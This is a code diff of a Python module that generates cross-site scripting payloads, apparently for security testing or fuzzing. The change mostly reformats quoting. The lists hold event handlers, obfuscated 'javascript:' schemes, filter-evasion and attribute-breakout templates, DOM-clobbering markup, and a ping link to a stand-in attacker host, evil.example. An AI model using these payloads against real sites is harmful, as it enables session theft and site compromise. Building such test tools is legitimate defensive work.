@@ -10,9 +10,11 @@ from collections.abc import Iterator
 
 TAGS = ("img", "svg", "body", "video", "audio", "details", "input", "iframe", "object", "marquee", "a", "math", "style")
 EVENTS = (
-    "onload onerror onclick onmouseover onfocus ontoggle onstart onanimationstart ontransitionend onbegin onpageshow "
-    "onpointerenter onmouseenter onkeydown onpaste ondrag onselectstart onauxclick oncopy onscroll onwheel oninput onbeforetoggle onfocusin oncontentvisibilityautostatechange"
-).split()
+    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart", "onbegin"),
+    *("ontransitionend", "onpageshow", "onpointerenter", "onmouseenter", "onkeydown", "onpaste", "ondrag", "oncopy"),
+    *("onselectstart", "onauxclick", "onscroll", "onwheel", "oninput", "onbeforetoggle", "onfocusin"),
+    "oncontentvisibilityautostatechange",
+)
 SCHEMES = (
     "javascript:{}",
     "JaVaScRiPt:{}",
@@ -145,7 +147,7 @@ WHOLE = (
     "<img src=x onerror=&#97;lert({n})>",
     "<img src=x:x onerror='\\u0061lert({n})'>",
     "<img src=x onerror={} //",
-    "<img src=\"x\"\"onerror={}>",
+    '<img src="x""onerror={}>',
     "<\x00img src=x onerror={}>",
     "<a href=# onclick={}>x",
     "<a ping=https://evil.example/{} href=#>x</a>",
@@ -163,13 +165,13 @@ WHOLE = (
     "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
     "<img name=getElementById src=x onerror={}>",
     "<img name=cookie><form name=body><input name=children>{}</form>",
-    "\" onmouseover={} x=\"",
+    '" onmouseover={} x="',
     "' onmouseover={} x='",
-    "\"><script>{}</script>",
+    '"><script>{}</script>',
     "'><script>{}</script>",
-    "\" autofocus onfocus={} x=\"",
-    "\" style=\"animation:x\" onanimationstart={} x=\"",
-    "x\" onerror=\"{}",
+    '" autofocus onfocus={} x="',
+    '" style="animation:x" onanimationstart={} x="',
+    'x" onerror="{}',
     "`${{{}}}`",
     "${{{}}}",
     "{{{{{}}}}}",
